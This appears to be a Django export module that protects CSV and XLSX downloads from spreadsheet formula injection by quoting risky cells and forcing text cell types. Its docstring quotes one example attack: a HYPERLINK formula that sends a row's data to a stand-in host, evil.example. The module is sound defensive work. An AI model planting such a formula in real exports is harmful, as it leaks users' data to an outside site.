"""Every CSV and XLSX file the product writes goes through this module (tests/security/
test_exports.py fails when a csv writer or a Workbook appears anywhere else).

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as
a formula: `=HYPERLINK("http://evil.example/?d="&C2,"Klik hier")` as an employer name would send
the row to another site. So:

- CSV: such a cell gets a leading ' (Excel shows the text; the employer import removes it
  again). A phone or plain number such as +31 6 12345678 or -5 is left alone: it cannot call
  anything.
- XLSX: every string is written as a text cell (never a formula) and one that starts with such a
  character also gets Excel's quote prefix, so editing the cell keeps it text. Numbers and dates
  stay numbers and dates.
"""

import csv
import datetime
import decimal
import io
import re

from django.http import HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
_PLAIN_NUMBER = re.compile(r"[+\-]?[\d\s()\-]+")
_NUMBER_TYPES = (int, float, decimal.Decimal, datetime.date, datetime.time)


def needs_guard(text):
    return text[:1] in FORMULA_START and not _PLAIN_NUMBER.fullmatch(text)


def guard(value):
    """The text of a CSV cell, with a leading ' when a spreadsheet would run it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if needs_guard(text) else text


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows):
    """UTF-8 text lines (the first with a byte-order mark, so that Excel reads UTF-8), semicolons
    (Dutch Excel opens it in columns), every cell guarded."""
    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
    first = True
    for row in rows:
        line = writer.writerow([guard(value) for value in row])
        yield "\ufeff" + line if first else line
        first = False


def csv_text(rows):
    return "".join(csv_lines(rows))


def _attachment(response, filename):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


def csv_response(filename, rows, *, stream=False):
    """rows (header first) as a CSV download; `stream` for a long list read as it goes."""
    if stream:
        return _attachment(StreamingHttpResponse(csv_lines(rows), content_type=CSV_TYPE), filename)
    return _attachment(HttpResponse(csv_text(rows), content_type=CSV_TYPE), filename)


def _xlsx_cell(sheet, value):
    """A value for sheet.append: numbers and dates as such, anything else as a text cell."""
    if isinstance(value, bool) or value is None:
        return "" if value is None else str(value)
    if isinstance(value, _NUMBER_TYPES):
        return value
    text = str(value)
    cell = Cell(sheet, value=None)
    cell._value, cell.data_type = text, "s"  # never "f" (a formula), whatever the text
    if needs_guard(text):
        cell.quotePrefix = True
    return cell


def xlsx_bytes(title, rows):
    """rows (header first, in bold) as one sheet of an XLSX workbook."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = (str(title)[:31] or "Export").translate(str.maketrans("/:\\?*[]", "-------"))
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
        width = max(len(str(c.value or "")) for c in sheet[cell.column_letter])
        sheet.column_dimensions[cell.column_letter].width = min(max(width + 2, 10), 60)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(filename, title, rows):
    return _attachment(HttpResponse(xlsx_bytes(title, rows), content_type=XLSX_TYPE), filename)
